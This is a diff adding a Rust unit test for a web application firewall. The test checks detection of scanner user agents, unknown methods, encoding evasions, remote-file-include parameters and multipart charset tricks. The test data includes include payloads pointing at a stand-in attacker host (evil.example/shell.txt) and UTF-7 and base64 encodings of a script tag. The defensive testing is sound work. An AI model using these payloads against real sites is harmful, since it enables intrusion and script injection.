@@ -276,6 +276,92 @@ mod tests {
         Waf::new(settings).expect("valid settings")
     }
 
+    fn rule_ids(req: &RequestView<'_>) -> Vec<u32> {
+        waf(Settings::default())
+            .inspect(req)
+            .matches
+            .iter()
+            .map(|m| m.rule_id)
+            .collect()
+    }
+
+    #[test]
+    fn protocol_evasions_charsets_methods_and_include_parameters() {
+        use crate::rules::*;
+        let req = |method, target: &'static [u8]| {
+            RequestView::new(method, target)
+                .header("User-Agent", "curl/8")
+                .header("Host", "h")
+        };
+        // Unregistered methods; registered ones (WebDAV too) are the route's business.
+        assert!(rule_ids(&req("JEFF", b"/")).contains(&PROTO_UNKNOWN_METHOD));
+        for m in ["GET", "delete", "PATCH", "PROPFIND", "OPTIONS"] {
+            assert!(
+                !rule_ids(&req(m, b"/")).contains(&PROTO_UNKNOWN_METHOD),
+                "{m}"
+            );
+        }
+        // Scanner agents as words of their own, not inside other names.
+        let ua = |agent: &'static str| {
+            RequestView::new("GET", b"/")
+                .header("User-Agent", agent)
+                .header("Host", "h")
+        };
+        assert!(
+            rule_ids(&ua("sqlmap/1.7.2#stable (https://sqlmap.org)")).contains(&PROTO_SCANNER_UA)
+        );
+        assert!(rule_ids(&ua("Mozilla/5.0 Nikto/2.5.0")).contains(&PROTO_SCANNER_UA));
+        assert!(!rule_ids(&ua("urlgrabber/3.10 yum/3.4.3")).contains(&PROTO_SCANNER_UA));
+        assert!(!rule_ids(&ua("mysqlmapper-client/2")).contains(&PROTO_SCANNER_UA));
+        // %u escapes of full-width forms, in the path or the query.
+        assert!(rule_ids(&req("GET", b"/a?x=%uff0F")).contains(&PROTO_FULLWIDTH_ESCAPE));
+        assert!(rule_ids(&req("GET", b"/%uFF0Eetc")).contains(&PROTO_FULLWIDTH_ESCAPE));
+        assert!(!rule_ids(&req("GET", b"/a?x=%u0041&y=%ff")).contains(&PROTO_FULLWIDTH_ESCAPE));
+        // Editor backups anywhere in the path.
+        assert!(rule_ids(&req("GET", b"/index.php~/foo/")).contains(&PROTO_RESTRICTED_EXT));
+        assert!(!rule_ids(&req("GET", b"/~user/home")).contains(&PROTO_RESTRICTED_EXT));
+        // URLs in parameters an include is built from, and bare scheme probes.
+        for target in [
+            &b"/x.php?_CONF[path]=https://foo.bar"[..],
+            b"/x.php?mosConfig_absolute_path=https://foo.bar",
+            b"/x.php?cfg[docroot]=http://evil.example/shell.txt",
+            b"/x.php?page=https://evil.example/",
+        ] {
+            assert!(
+                rule_ids(&req("GET", target)).contains(&RFI_INCLUDE_PARAM),
+                "{}",
+                String::from_utf8_lossy(target)
+            );
+        }
+        assert!(
+            !rule_ids(&req("GET", b"/cb?redirect_uri=https://app.example/cb"))
+                .contains(&RFI_INCLUDE_PARAM)
+        );
+        assert!(rule_ids(&req("GET", b"/get?x=ftp%3F")).contains(&RFI_TRAILING_QUESTION));
+        assert!(!rule_ids(&req("GET", b"/get?x=files%3F")).contains(&RFI_TRAILING_QUESTION));
+        // Multipart parts in charsets no detector reads, `_charset_`, and transfer encodings.
+        let multipart = |body: &'static [u8]| {
+            RequestView::new("POST", b"/upload")
+                .header("User-Agent", "curl/8")
+                .header("Host", "h")
+                .header("Content-Type", "multipart/form-data; boundary=b")
+                .body(body)
+        };
+        for body in [
+            &b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--b--\r\n"[..],
+            b"--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-16\r\n--b--\r\n",
+            b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=\r\n--b--\r\n",
+        ] {
+            assert!(
+                rule_ids(&multipart(body)).contains(&PROTO_MULTIPART_CHARSET),
+                "{}",
+                String::from_utf8_lossy(body)
+            );
+        }
+        let plain = b"--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nUTF-8\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=windows-1252\r\n\r\nhello\r\n--b--\r\n";
+        assert!(!rule_ids(&multipart(plain)).contains(&PROTO_MULTIPART_CHARSET));
+    }
+
     #[test]
     fn blocks_attacks_and_passes_clean_requests() {
         let w = waf(Settings::default());
